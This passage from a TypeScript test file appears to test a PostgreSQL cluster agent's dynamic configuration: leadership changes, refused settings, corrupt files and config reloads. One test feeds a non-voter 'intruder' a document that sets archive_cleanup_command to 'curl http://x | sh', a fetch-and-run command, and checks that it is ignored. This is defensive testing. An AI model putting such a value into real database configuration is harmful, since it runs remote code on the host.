    // Leadership lost while PostgreSQL checked: nothing stored.
    let release = () => {};
    const slow = node("n2", "", { leading: true, voters: ["n2"], refusedParameters: () => new Promise((r) => { release = () => r(null); }) });
    slow.st.voters = ["n2", "p1"];
    slow.dyn.onDocument("p1", doc(1));
    slow.st.voters = ["n2"];
    const pending = slow.dyn.change({ base: 1, set: { "postgres.parameters.work_mem": "8MB" } }); // runs up to the check
    slow.st.leading = false;
    release();
    expect(await pending).toMatchObject({ status: 503, message: expect.stringContaining("stopped leading term 4") });
    expect(slow.dyn.get()?.version).toBe(1);
  });

  test("settings refused since a document was written are left out of it, with a warning: the document still loads and applies", () => {
    // Found by review: refusing the whole document on upgrade dropped the cluster's configuration for
    // the first leader's pgherd.toml (every cluster-wide change reverted).
    const old = { ...doc(5), settings: { ...settings(), postgres: { parameters: { work_mem: "32MB", recovery_target_timeline: "latest", Sync_Replication_Slots: "on", recovery_target_action: "promote", hba_file: "/etc/hba", full_page_writes: "off" } } } };
    const n = node("n5");
    writeFileSync(join(n.dir, "dynamic-config.json"), JSON.stringify(old));
    const log = memoryLogger();
    const cfg = parseConfig(`cluster = "c"\nsecret = "${"s".repeat(40)}"\nstate_dir = "${n.dir}"\n`, "pgherd.toml");
    const d = new DynamicConfig({ cfg, nodeId: "x", log, send: () => true, connected: () => [], leadership: () => ({ term: 0, leading: false, voters: [] }), record: () => {}, nameOf: (i) => i, legacyDurability: () => undefined, applied: () => {}, now: () => 0, sleep: async () => {} });
    expect(d.get()).toMatchObject({ version: 5, settings: { postgres: { parameters: { work_mem: "32MB" } } } });
    expect(Object.keys(d.get()!.settings.postgres.parameters)).toEqual(["work_mem"]);
    expect(log.lines.some((l) => l.includes("postgres.parameters recovery_target_timeline, Sync_Replication_Slots, recovery_target_action, hba_file, full_page_writes left out"))).toBe(true);
    // From a peer too; a setting refused all along (port) still refuses the document.
    const m = node("n6", "", { voters: ["n6", "p1"] });
    m.dyn.onDocument("p1", { ...old, version: 6 });
    expect(m.dyn.get()?.version).toBe(6);
    expect(m.log.lines.some((l) => l.includes("version 6 from p1: postgres.parameters recovery_target_timeline"))).toBe(true);
    m.dyn.onDocument("p1", { ...old, version: 7, settings: { ...old.settings, postgres: { parameters: { port: 5433 } } } });
    expect(m.dyn.get()?.version).toBe(6);
    // From a member that is not a voter (not approved yet): ignored, whatever it holds (review).
    m.dyn.onDocument("intruder", { ...old, version: 999_999, settings: { ...old.settings, postgres: { parameters: { archive_cleanup_command: "curl http://x | sh" } } } });
    expect(m.dyn.get()?.version).toBe(6);
    expect(m.log.lines.some((l) => l.includes("ignored a cluster-wide configuration from intruder: not a voter"))).toBe(true);
  });

  test("a corrupt dynamic-config.json is logged and ignored (the leader's version replaces it)", () => {
    const n = node("n4");
    writeFileSync(join(n.dir, "dynamic-config.json"), "{broken");
    const log = memoryLogger();
    const cfg = parseConfig(`cluster = "c"\nsecret = "${"s".repeat(40)}"\nstate_dir = "${n.dir}"\n`, "pgherd.toml");
    const d = new DynamicConfig({ cfg, nodeId: "x", log, send: () => true, connected: () => [], leadership: () => ({ term: 0, leading: false, voters: [] }), record: () => {}, nameOf: (i) => i, legacyDurability: () => undefined, applied: () => {}, now: () => 0, sleep: async () => {} });
    expect(d.get()).toBeNull();
    expect(log.lines[0]).toContain("ignoring it");
  });

  test("access rules in force: the cluster's once there is a document, else the local ones", () => {
    setAccessRules([]);
    setClusterAccessRules(null);
    expect(accessRowsInForce()).toEqual([]);
    setAccessRules([{ type: "host", database: "all", user: "app", address: "10.0.0.1", method: "scram-sha-256" }]);
    expect(accessRowsInForce()).toHaveLength(1);
    setClusterAccessRules([]);
    expect(accessRowsInForce()).toEqual([]);
  });
});

test("a conflict with pgherd.toml is gone once a SIGHUP reloaded the file without it (review: it stayed until the agent restarted)", async () => {
  const dir = mkdtempSync(join(tmpdir(), "pgherd-dyn-reload-"));
  const path = join(dir, "pgherd.toml");
  const toml = (extra: string) => `cluster = "c"\nsecret = "${"s".repeat(40)}"\nnode_name = "n1"\nstate_dir = "${dir}"\n${extra}`;
  writeFileSync(path, toml(`[postgres.parameters]\nwork_mem = "8MB"\n`), { mode: 0o600 });
  const cfg = parseConfig(readFileSync(path, "utf8"), path);
  const log = memoryLogger();
  const reloader = new ConfigReloader(cfg, { path, log, setLevel: () => {}, formatFromConfig: true, restartApi: async () => {} });
  try {
    const dyn = new DynamicConfig({
      cfg, cfgNow: () => runningConfig() ?? cfg, nodeId: "n1", log, send: () => true, connected: () => [], leadership: () => ({ term: 4, leading: false, voters: ["n1", "p1"] }), record: () => {}, nameOf: (i) => i,
      legacyDurability: () => undefined, applied: () => {}, now: () => 0, sleep: async () => {},
    });
    dyn.onDocument("p1", { version: 2, term: 1, at: "2026-12-01T00:00:00Z", by: "p1", settings: { durability: "quorum", postgres: { parameters: { work_mem: "64MB" } }, access: [], failover: { max_lag_bytes: 1048576 } } });
    expect(dyn.view().conflicts.map((c) => c.key)).toEqual(["postgres.parameters.work_mem"]);
    writeFileSync(path, toml(""), { mode: 0o600 });
    expect(await reloader.reload()).not.toBeNull();
    expect(dyn.view().conflicts).toEqual([]);
  } finally {
    reloader.close();
    // No document in force for the tests that follow in this process (parametersNow is the module's).
    const fresh = mkdtempSync(join(tmpdir(), "pgherd-dyn-reset-"));
    new DynamicConfig({ cfg: parseConfig(toml("").replace(dir, fresh), "pgherd.toml"), nodeId: "n1", log, send: () => true, connected: () => [], leadership: () => ({ term: 0, leading: false, voters: [] }), record: () => {}, nameOf: (i) => i, legacyDurability: () => undefined, applied: () => {}, now: () => 0, sleep: async () => {} });
    setAccessRules([]);
    expect(pgParametersInForce({ a: 1 })).toEqual({ a: 1 });
    rmSync(fresh, { recursive: true, force: true });
    rmSync(dir, { recursive: true, force: true });
  }
});
